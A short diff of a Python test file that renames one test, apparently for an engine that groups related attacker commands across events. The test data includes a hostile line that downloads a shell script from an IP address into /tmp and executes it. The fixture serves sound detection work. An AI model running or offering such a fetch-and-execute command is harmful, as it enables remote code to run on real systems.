@@ -19,7 +19,7 @@ def test_a_tool_joins_nobody(engine: Engine) -> None:
     assert several(engine) == set()
 
 
-def test_commands_name_hosts(engine: Engine) -> None:
+def test_commands_name_urls(engine: Engine) -> None:
     line = "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh"
     Follower(engine).run([event(A, command(line)), event(B, command(line), 1), event(C, command("uname -a"), 2)])
     assert several(engine) == groups([A, B])
